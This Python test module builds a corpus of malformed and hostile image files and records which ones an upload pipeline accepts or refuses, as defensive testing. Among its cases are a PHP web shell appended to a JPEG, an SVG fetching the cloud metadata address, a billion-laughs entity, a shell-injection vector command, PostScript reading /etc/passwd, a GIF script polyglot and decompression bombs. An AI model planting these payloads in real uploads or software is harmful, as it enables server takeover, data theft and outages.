"""Files that people send by mistake or on purpose, and what becomes of each.

They are made and never kept: `python -m tests.hostile.corpus FOLDER` writes them out to be looked at or sent by hand.

A row says in words what it is, makes it, and names the outcome: None for a photo that is taken, else the refusal's code;
for a file with damage by chance, whatever the decoder thinks of it.
"""

import struct
import sys
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from random import Random

from PIL import Image

from tests.hostile import pieces as p
from tests.intake import photos

BROKEN, UNSUPPORTED, NONE = "broken", "unsupported", "not_a_picture"
PIXELS, SLOW, BIG = "too_many_pixels", "too_slow", "too_big"
ANYTHING = (None, BROKEN, UNSUPPORTED, NONE, PIXELS, SLOW, BIG)


@dataclass(frozen=True)
class Case:
    """A file: what it is, and what it may become, refusals by their code (`casefile.pictures.Refusal`).

    `tells` when it holds the canary, which must be gone afterwards.
    """

    what: str
    make: Callable[[], bytes]
    outcomes: tuple[str | None, ...]
    tells: bool = False


def taken(what: str, make: Callable[[], bytes], *, tells: bool = False) -> Case:
    """Return a file that is a photo."""
    return Case(what, make, (None,), tells)


def refused(what: str, make: Callable[[], bytes], *codes: str) -> Case:
    """Return a file that is refused."""
    return Case(what, make, codes)


JPEG = [
    taken("jpeg: plain", p.jpeg),
    taken("jpeg: progressive", lambda: p.jpeg(progressive=True)),
    taken("jpeg: grey", lambda: p.jpeg(p.scene(mode="L"))),
    taken("jpeg: four inks", lambda: p.jpeg(p.scene(mode="CMYK"))),
    taken("jpeg: one pixel", lambda: p.jpeg(Image.new("RGB", (1, 1)))),
    taken("jpeg: one row of 65,500 pixels", lambda: p.jpeg(Image.new("RGB", (65_500, 1)))),
    taken("jpeg: one column of 65,500 pixels", lambda: p.jpeg(Image.new("RGB", (1, 65_500)))),
    taken("jpeg: lying on its side", lambda: photos.telling(orientation=6)),
    taken("jpeg: an orientation that there is none", lambda: photos.telling(orientation=99)),
    taken("jpeg: place, note and portrait in EXIF", lambda: p.jpeg(exif=p.telling_exif()), tells=True),
    taken("jpeg: place in XMP", lambda: p.with_segments(p.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + p.XMP)), tells=True),
    taken(
        "jpeg: words in IPTC", lambda: p.with_segments(p.segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04" + p.CANARY)), tells=True
    ),
    taken("jpeg: words in a comment", lambda: p.jpeg(comment=p.SCRIPT), tells=True),
    taken("jpeg: a profile in three pieces", lambda: p.jpeg(icc_profile=p.CANARY * 9000), tells=True),
    taken(
        "jpeg: thirteen million bytes beside the picture",
        lambda: p.with_segments(p.segment(0xE5, p.CANARY * 3800) * 200),
        tells=True,
    ),
    taken("jpeg: facts that lead round in a circle", lambda: p.jpeg(exif=b"Exif\0\0II*\0\x08\0\0\0\0\0\x08\0\0\0")),
    taken(
        "jpeg: facts that say they are endless",
        lambda: p.jpeg(exif=b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + b"\x12\1\3\0\xff\xff\xff\xff" * 40),
    ),
    taken("jpeg: facts of nothing but ones", lambda: p.jpeg(exif=b"Exif\0\0" + b"\xff" * 400)),
    taken("jpeg: two thousand tables", lambda: p.with_segments(p.segment(0xDB, b"\0" + bytes(range(1, 65))) * 2000)),
    taken("jpeg: filled up between segments", lambda: p.with_segments(b"\xff" * 5000)),
    taken("jpeg: and a web page", lambda: p.jpeg() + p.SCRIPT, tells=True),
    taken("jpeg: and a program for PHP", lambda: p.jpeg() + b"<?php system($_GET['c']); //" + p.CANARY, tells=True),
    taken("jpeg: and an archive", lambda: p.jpeg() + p.archive(name="evil.html"), tells=True),
    taken("jpeg: and a Java program", lambda: p.jpeg() + p.archive(), tells=True),
    taken("jpeg: and a PDF", lambda: p.jpeg() + b"%PDF-1.7\n" + p.CANARY, tells=True),
    taken("jpeg: and the film of a live photo", lambda: p.jpeg() + p.FILM, tells=True),
    taken("jpeg: and another one", lambda: p.jpeg() + photos.telling(), tells=True),
    taken("jpeg: a pair for both eyes (MPO)", lambda: photos.encoded(p.scene(), "MPO", save_all=True, append_images=[p.scene()])),
    taken("jpeg: fifty million pixels", lambda: p.jpeg(Image.new("L", (10_000, 5000), 120))),
    refused("jpeg: some more than fifty million pixels", lambda: p.jpeg(Image.new("L", (10_001, 5000), 120)), PIXELS),
    refused("jpeg: says it is 65,535 square", lambda: p.jpeg_of_size(65_535, 65_535), PIXELS),
    taken("jpeg: says it is 8000 by 6000 and is small: what is missing is grey", lambda: p.jpeg_of_size(8000, 6000)),
    refused("jpeg: of no width", lambda: p.jpeg_of_size(0, 64), BROKEN),
    refused("jpeg: of no height", lambda: p.jpeg_of_size(96, 0), BROKEN),
    refused("jpeg: without loss, which no browser reads", lambda: p.jpeg_of_size(96, 64, frame=0xC3), BROKEN),
    refused("jpeg: coded by arithmetic", lambda: p.jpeg_of_size(96, 64, frame=0xCB), BROKEN),
    refused("jpeg: twelve bits deep", lambda: p.jpeg_of_size(96, 64, precision=12), BROKEN),
    refused("jpeg: painted over five thousand times", lambda: p.many_scans(5000), SLOW, BROKEN),
    refused("jpeg: half of it", photos.cut_short, BROKEN),
    refused("jpeg: its head alone", lambda: p.jpeg()[:200], BROKEN),
    refused("jpeg: three bytes", lambda: b"\xff\xd8\xff", BROKEN),
    refused("jpeg: two bytes", lambda: b"\xff\xd8", NONE),
    refused("jpeg: three bytes and noise", lambda: b"\xff\xd8\xff" + Random(1).randbytes(5000), BROKEN),
    refused("jpeg: behind a space", lambda: b" " + p.jpeg(), NONE),
    refused("jpeg: behind a web page", lambda: p.SCRIPT + p.jpeg(), NONE),
    refused("jpeg: more than fifteen million bytes", lambda: p.jpeg() + bytes(15_000_000), BIG),
]

_PACKED_TEXT = b"words\0\0"
PNG = [
    taken("png: plain", p.png),
    *(taken(f"png: mode {mode}", partial(p.png, p.scene(mode=mode))) for mode in ("1", "L", "LA", "P", "RGBA")),
    taken("png: grey of 16 bits", lambda: p.png(Image.new("I;16", (96, 64), 40_000))),
    taken("png: colours of 16 bits", lambda: p.raw_png(4, 4, depth=16, rows=(b"\0" + b"\x80\0" * 12) * 4)),
    taken("png: 16 bits with see-through", lambda: p.raw_png(4, 4, depth=16, colour=6, rows=(b"\0" + b"\x80\0" * 16) * 4)),
    taken("png: interlaced", lambda: p.raw_png(1, 1, rows=b"\0\xff\0\0", interlaced=1)),
    taken("png: a see-through colour", lambda: p.png(p.scene(mode="P"), transparency=0)),
    taken("png: one that moves", lambda: p.animated("PNG")),
    taken("png: says it moves four thousand million times", lambda: p.with_chunks(p.chunk(b"acTL", b"\xff" * 8))),
    taken("png: place in EXIF", lambda: p.png(exif=p.telling_exif()), tells=True),
    taken("png: place in XMP", lambda: p.with_chunks(p.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + p.XMP)), tells=True),
    taken("png: words", lambda: p.with_chunks(p.chunk(b"tEXt", b"Author\0" + p.CANARY)), tells=True),
    taken("png: ten million bytes of words", lambda: p.with_chunks(p.chunk(b"tEXt", b"a\0" + p.CANARY * 600_000)), tells=True),
    taken("png: a hundred thousand words", lambda: p.with_chunks(p.chunk(b"tEXt", b"a\0b") * 100_000)),
    taken("png: words that unpack to 300 MB", lambda: p.with_chunks(p.chunk(b"zTXt", _PACKED_TEXT + p.zeros(300)))),
    taken("png: more words that do", lambda: p.with_chunks(p.chunk(b"iTXt", b"a\0\1\0\0\0" + p.zeros(300)))),
    taken("png: a profile that unpacks to 300 MB", lambda: p.with_chunks(p.chunk(b"iCCP", _PACKED_TEXT + p.zeros(300)))),
    taken("png: a profile of rubbish", lambda: p.with_chunks(p.chunk(b"iCCP", b"x\0\0" + p.CANARY)), tells=True),
    taken("png: chunks that nobody knows", lambda: p.with_chunks(p.chunk(b"caNd", p.CANARY) * 500), tells=True),
    taken("png: and a web page", lambda: p.png() + p.SCRIPT, tells=True),
    taken("png: and an archive", lambda: p.png() + p.archive(), tells=True),
    taken(
        "png: words behind the picture", lambda: p.png()[:-12] + p.chunk(b"tEXt", b"a\0" + p.CANARY) + p.png()[-12:], tells=True
    ),
    taken("png: forty million pixels in some kilobytes", photos.forty_megapixels),
    taken("png: 49 million pixels, see-through", lambda: p.png(Image.new("RGBA", (7000, 7000)), compress_level=1)),
    taken("png: rows that unpack to 300 MB too many", lambda: p.raw_png(96, 64, rows=bytes(97 * 3 * 64 + 300_000_000))),
    refused("png: more than fifty million pixels", photos.bomb, PIXELS),
    refused("png: two thousand million wide", lambda: p.raw_png(2**31 - 1, 2**31 - 1), PIXELS),
    refused("png: of no width", lambda: p.raw_png(0, 64), BROKEN),
    refused("png: of no height", lambda: p.raw_png(96, 0), BROKEN),
    refused("png: no rows", lambda: p.raw_png(96, 64), BROKEN),
    refused("png: too few rows", lambda: p.raw_png(96, 64, rows=bytes(1000)), BROKEN),
    refused("png: a colour type that there is none", lambda: p.raw_png(96, 64, colour=5), BROKEN),
    refused("png: three bits", lambda: p.raw_png(96, 64, depth=3), BROKEN),
    refused("png: a chunk of two thousand million bytes", lambda: p.png()[:33] + b"\x7f\xff\xff\xfftEXt" + p.CANARY, BROKEN),
    refused("png: a head with a wrong check", lambda: p.png()[:29] + b"\0\0\0\0" + p.png()[33:], BROKEN),
    refused("png: rows that are no zlib", lambda: p.png()[:41] + bytes(len(p.png()) - 41), BROKEN),
    refused("png: its first four hundred bytes", lambda: p.png(photos.scene())[:400], BROKEN),
    refused("png: its name alone", lambda: b"\x89PNG\r\n\x1a\n", BROKEN),
]

WEBP = [
    taken("webp: plain", p.webp),
    taken("webp: without loss", lambda: p.webp(lossless=True)),
    taken("webp: see-through", lambda: p.webp(p.scene(mode="RGBA"))),
    taken("webp: one that moves", lambda: p.animated("WEBP")),
    taken("webp: place in EXIF", lambda: p.webp(exif=p.telling_exif()), tells=True),
    taken("webp: place in XMP", lambda: p.webp(xmp=p.XMP), tells=True),
    taken("webp: a profile", lambda: p.webp(icc_profile=p.CANARY * 100), tells=True),
    taken("webp: and a web page", lambda: p.webp() + p.SCRIPT, tells=True),
    refused("webp: a canvas of 268 million pixels", lambda: _wide_webp(16_383), PIXELS, BROKEN),
    refused("webp: half of it", lambda: p.webp(photos.scene())[:300], BROKEN),
    refused("webp: rubbish", lambda: b"RIFF\0\1\0\0WEBPVP8 " + b"\x9d" * 300, BROKEN),
    refused("webp: its name alone", lambda: b"RIFF\xff\xff\xff\xffWEBP", BROKEN),
    refused("riff: a sound", lambda: b"RIFF\0\1\0\0WAVEfmt " + bytes(300), NONE),
]

HEIC = [
    taken("heic: plain", p.heic),
    taken("heic: as telephones write it, in tiles", lambda: p.heic(tile=128)),
    taken("heic: see-through", lambda: p.heic("RGBA")),
    taken("heic: grey", lambda: p.heic("L")),
    taken("heic: ten bits", p.deep_heic),
    taken("heic: two pictures", lambda: p.heic(pictures=2)),
    taken("heic: place and note in EXIF", lambda: p.heic(exif=p.telling_exif()), tells=True),
    taken("heic: place in XMP", lambda: p.heic(xmp=p.XMP), tells=True),
    taken("heic: and a web page", lambda: p.heic() + p.SCRIPT, tells=True),
    taken("heic: and the film of a live photo", lambda: p.heic() + p.FILM, tells=True),
    refused("heic: says it is 65,535 square", lambda: p.resized_heic(65_535, 65_535), PIXELS, BROKEN),
    refused("heic: says it has no width", lambda: p.resized_heic(0, 64), BROKEN),
    refused("heic: half of it", lambda: p.heic()[: len(p.heic()) // 2], BROKEN),
    refused("heic: without its picture", lambda: p.heic()[: p.heic().rindex(b"mdat") + 4], BROKEN),
    refused("heic: a picture of zeros", lambda: p.heic()[: p.heic().rindex(b"mdat") + 4] + bytes(2000), BROKEN),
    refused("heic: boxes longer than the file", lambda: p.heic().replace(b"iprp", b"iprp\xff\xff\xff\xff", 1), BROKEN),
    refused("heic: its name alone", lambda: p.branded(b"heic", b"mif1", b"heic"), BROKEN),
    refused("heic: its name before a JPEG", lambda: p.branded(b"heic", body=p.jpeg()), BROKEN),
    refused("heic: a thousand boxes one in another", lambda: p.branded(b"heic", body=_nested(1000)), BROKEN),
    refused("avif", lambda: p.branded(b"avif", b"mif1", body=bytes(400)), UNSUPPORTED),
    refused("heif of an unknown coding", lambda: p.branded(b"mif1", b"miaf", body=bytes(400)), UNSUPPORTED),
    refused("heif: a sequence", lambda: p.branded(b"msf1", b"hevc", body=bytes(400)), UNSUPPORTED),
    refused("a raw picture of Canon's", lambda: p.branded(b"crx ", b"isom", body=bytes(400)), UNSUPPORTED),
    refused("a film of a live photo", lambda: p.branded(b"qt  ", body=p.FILM), NONE),
    refused("a film", lambda: p.FILM, NONE),
]

OTHER = [
    refused("nothing at all", lambda: b"", NONE),
    refused("one byte", lambda: b"\xff", NONE),
    refused("a million zeros", lambda: bytes(1_000_000), NONE),
    refused("noise", lambda: Random(2).randbytes(100_000), NONE),
    refused("svg", p.drawing, NONE),
    refused("svg that fetches a page", lambda: p.drawing(b'<image href="http://169.254.169.254/"/>'), NONE),
    refused("svg of a thousand million laughs", lambda: b'<!DOCTYPE svg [<!ENTITY a "ha">]>' + p.drawing(b"&a;" * 1000), NONE),
    refused("svg, packed", p.packed_drawing, NONE),
    refused("a web page", lambda: photos.HTML, NONE),
    refused("a web page in UTF-16", lambda: photos.HTML.decode().encode("utf-16"), NONE),
    refused("an archive", p.archive, NONE),
    refused("a PDF", lambda: b"%PDF-1.7\n" + bytes(500), NONE),
    refused("PostScript", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run", NONE),
    refused("a program for Windows", lambda: b"MZ" + bytes(500), NONE),
    refused("a program for Linux", lambda: b"\x7fELF" + bytes(500), NONE),
    refused("orders to a shell", lambda: b"push graphic-context\nfill 'url(https://a.example/\"|ls \"-la)'", NONE),
    refused("gif", lambda: photos.encoded(p.scene(), "GIF"), UNSUPPORTED),
    refused("gif that moves", lambda: p.animated("GIF"), UNSUPPORTED),
    refused("gif and a Java program", lambda: photos.encoded(p.scene(), "GIF") + p.archive(), UNSUPPORTED),
    refused("gif that is a script", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", UNSUPPORTED),
    refused("tiff", lambda: photos.encoded(p.scene(), "TIFF"), UNSUPPORTED),
    refused("tiff, the other way round", lambda: b"MM\0*" + bytes(400), UNSUPPORTED),
    refused("bmp", lambda: photos.encoded(p.scene(), "BMP"), UNSUPPORTED),
    refused(
        "bmp of a thousand million pixels", lambda: b"BM" + struct.pack("<IIIIii", 54, 0, 54, 40, 32_000, 32_000), UNSUPPORTED
    ),
    refused("ico", lambda: photos.encoded(p.scene(), "ICO"), UNSUPPORTED),
    refused("psd", lambda: b"8BPS\0\1" + bytes(400), UNSUPPORTED),
    refused("jpeg xl", lambda: b"\xff\x0a" + bytes(400), UNSUPPORTED),
    refused("jpeg xl in boxes", lambda: b"\0\0\0\x0cJXL \r\n\x87\n" + bytes(400), UNSUPPORTED),
    refused("jpeg 2000", lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(400), NONE),
    refused("words", "Ổ gà trước nhà tôi.".encode, NONE),
]


def _wide_webp(edge: int) -> bytes:
    whole = p.webp(exif=b"Exif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0")
    at = whole.index(b"VP8X") + 12
    return whole[:at] + struct.pack("<I", edge)[:3] * 2 + whole[at + 6 :]


def _nested(depth: int) -> bytes:
    inner = b""
    for _ in range(depth):
        inner = struct.pack(">I", 12 + len(inner)) + b"meta\0\0\0\0" + inner
    return inner


BY_CHANCE = [
    Case(f"{kind}: damaged by chance, {seed}", partial(p.flipped, make, seed), ANYTHING)
    for kind, make in (("jpeg", photos.telling), ("png", p.png), ("webp", p.webp), ("heic", p.heic))
    for seed in range(1, 6)
]

CORPUS = [*JPEG, *PNG, *WEBP, *HEIC, *OTHER]
"""The files whose outcome is known."""


def write_all(folder: Path) -> None:
    """Write every file into a folder, to be looked at or sent by hand."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, case in enumerate([*CORPUS, *BY_CHANCE], 1):
        outcome = "-or-".join(code or "taken" for code in case.outcomes[:2])
        name = "".join(letter if letter.isalnum() else "-" for letter in case.what)[:60]
        (folder / f"{number:03d}-{outcome}-{name}").write_bytes(case.make())


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
